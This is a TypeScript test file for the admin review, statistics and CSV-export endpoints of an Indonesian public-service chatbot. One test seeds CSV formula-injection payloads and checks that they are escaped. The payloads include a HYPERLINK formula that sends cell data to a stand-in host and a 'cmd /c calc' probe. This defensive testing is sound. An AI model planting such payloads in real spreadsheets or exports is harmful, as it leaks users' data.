import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { toCsv } from "../../src/admin/csv.js";
import type { Db } from "../../src/store/database.js";
import { adminApp, keyFor, type AdminTestApp } from "./helpers.js";
import { turnRow } from "../helpers/rows.js";

/** Seeds turns, feedback and submissions at fixed times (questions are stored masked already). */
async function seed(t: AdminTestApp): Promise<void> {
  const db: Db = t.services.db;
  for (const [id, ch] of [
    ["s1", "web"],
    ["s2", "telegram"],
    ["s3", "web"],
  ] as const)
    await db
      .insertInto("sessions")
      .values({ id, channel: ch, user_key: null, memory: "{}", created_at: "2026-11-20T00:00:00.000Z", updated_at: "2026-11-21T00:00:00.000Z" })
      .execute();
  for (const turn of [
    turnRow("s1", "web", "cara urus izin reklame", "no_answer", null, null, "2026-11-20T08:00:00.000Z"),
    turnRow("s1", "web", "syarat ktp baru", "answered", 3.0, "ktp-el-baru", "2026-11-20T08:05:00.000Z"),
    turnRow("s2", "telegram", "cara mengurus izin reklame?", "no_answer", null, null, "2026-11-21T09:00:00.000Z"),
    turnRow("s3", "web", "biaya akta kelahiran", "answered", 0.9, "akta-kelahiran", "2026-11-21T10:00:00.000Z"),
    turnRow("s3", "web", "jam buka dukcapil", "answered", 2.5, "ktp-el-baru", "2026-11-21T10:05:00.000Z"),
    turnRow("s3", "web", "di luar rentang", "answered", 2.5, "ktp-el-baru", "2026-11-23T10:05:00.000Z"),
  ])
    await db.insertInto("turns").values(turn).execute();
  for (const [session_id, message_index, rating, created_at] of [
    ["s3", 1, "down", "2026-11-21T10:06:00.000Z"],
    ["s1", 1, "up", "2026-11-20T08:06:00.000Z"],
    ["s2", 0, "up", "2026-11-21T09:01:00.000Z"],
  ] as const)
    await db.insertInto("feedback").values({ session_id, message_index, rating, channel: "web", created_at }).execute();
  const subs = t.services.forms!.submissions;
  const base = {
    opd: "disdukcapil",
    channel: "web",
    userKey: "u",
    fields: {},
    masked: {},
    nikHash: null,
    submitterTokenHash: "x",
    confidential: false,
    prefix: "KDI",
  };
  const at = new Date("2026-11-21T11:00:00.000Z");
  await subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
  await subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
  const done = await subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
  await subs.update(done.ticket, "selesai", "", "key_test");
  await subs.create({ ...base, serviceId: "akta-kelahiran" }, at);
}

describe("review and statistics", () => {
  let t: AdminTestApp;
  let curator: Awaited<ReturnType<typeof keyFor>>;
  beforeAll(async () => {
    t = await adminApp();
    curator = await keyFor(t, "curator");
    await seed(t);
  });
  afterAll(() => t.cleanup());

  it("groups similar unanswered questions, with low-evidence and down-rated ones", async () => {
    const res = await t.app.request("/api/admin/review", { headers: curator.headers });
    expect(res.status).toBe(200);
    const { groups } = (await res.json()) as { groups: unknown[] };
    expect(groups).toEqual([
      { count: 2, examples: ["cara urus izin reklame", "cara mengurus izin reklame?"], reasons: ["no_answer"], lastSeen: "2026-11-21T09:00:00.000Z" },
      { count: 1, examples: ["jam buka dukcapil"], reasons: ["negative_feedback"], lastSeen: "2026-11-21T10:05:00.000Z" },
      { count: 1, examples: ["biaya akta kelahiran"], reasons: ["low_evidence"], lastSeen: "2026-11-21T10:00:00.000Z" },
    ]);
  });

  it("exports the review as CSV with a header row", async () => {
    const res = await t.app.request("/api/admin/review.csv", { headers: curator.headers });
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const lines = (await res.text()).split("\r\n");
    expect(lines[0]).toBe("count,last_seen,reasons,examples");
    expect(lines[1]).toBe("2,2026-11-21T09:00:00.000Z,no_answer,cara urus izin reklame | cara mengurus izin reklame?");
  });

  it("computes the statistics of a date range", async () => {
    const res = await t.app.request("/api/admin/stats?from=2026-11-20&to=2026-11-21", { headers: curator.headers });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { stats: unknown }).stats).toEqual({
      from: "2026-11-20",
      to: "2026-11-21",
      questionsPerDay: [
        { day: "2026-11-20", channel: "web", count: 2 },
        { day: "2026-11-21", channel: "telegram", count: 1 },
        { day: "2026-11-21", channel: "web", count: 2 },
      ],
      totalQuestions: 5,
      answered: 3,
      answerRate: 0.6,
      topServices: [
        { serviceId: "ktp-el-baru", count: 2 },
        { serviceId: "akta-kelahiran", count: 1 },
      ],
      submissions: [
        { serviceId: "akta-kelahiran", status: "diterima", count: 1 },
        { serviceId: "ktp-el-baru", status: "diterima", count: 2 },
        { serviceId: "ktp-el-baru", status: "selesai", count: 1 },
      ],
      feedback: { up: 2, down: 1, ratioUp: 0.667 },
    });
  });

  it("exports the statistics as CSV", async () => {
    const res = await t.app.request("/api/admin/stats.csv?from=2026-11-20&to=2026-11-21", { headers: curator.headers });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const lines = (await res.text()).split("\r\n");
    expect(lines.slice(0, 5)).toEqual([
      "metric,key,channel,value",
      "questions,2026-11-20,web,2",
      "questions,2026-11-21,telegram,1",
      "questions,2026-11-21,web,2",
      "answer_rate,2026-11-20..2026-11-21,,0.6",
    ]);
    expect(lines).toContain("submissions,ktp-el-baru/selesai,,1");
    expect(lines).toContain("feedback_down,,,1");
  });

  it("neutralises review cells a spreadsheet would run as a formula", async () => {
    const attacks = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+6281 pajak", "-2+3 retribusi", "@SUM(A1:A9) kios", "\tcmd /c calc"];
    for (const [i, q] of attacks.entries())
      await t.services.db
        .insertInto("turns")
        .values(turnRow("s1", "web", q, "no_answer", null, null, `2026-11-22T0${i}:00:00.000Z`))
        .execute();
    const lines = (await (await t.app.request("/api/admin/review.csv", { headers: curator.headers })).text()).split("\r\n");
    expect(lines).toContain('1,2026-11-22T00:00:00.000Z,no_answer,"\'=HYPERLINK(""http://x.example/?d=""&A1,""klik"")"');
    expect(lines).toContain("1,2026-11-22T01:00:00.000Z,no_answer,'+6281 pajak");
    expect(lines).toContain("1,2026-11-22T02:00:00.000Z,no_answer,'-2+3 retribusi");
    expect(lines).toContain("1,2026-11-22T03:00:00.000Z,no_answer,'@SUM(A1:A9) kios");
    expect(lines).toContain("1,2026-11-22T04:00:00.000Z,no_answer,'\tcmd /c calc");
    // numbers are numbers, never prefixed
    expect(toCsv(["n"], [[-3]])).toBe("n\r\n-3\r\n");
  });

  it("rejects a malformed date with 400", async () => {
    const res = await t.app.request("/api/admin/stats?from=20-11-2026", { headers: curator.headers });
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: { fields: Record<string, string> } }).error.fields).toEqual({ from: "use YYYY-MM-DD" });
  });
});
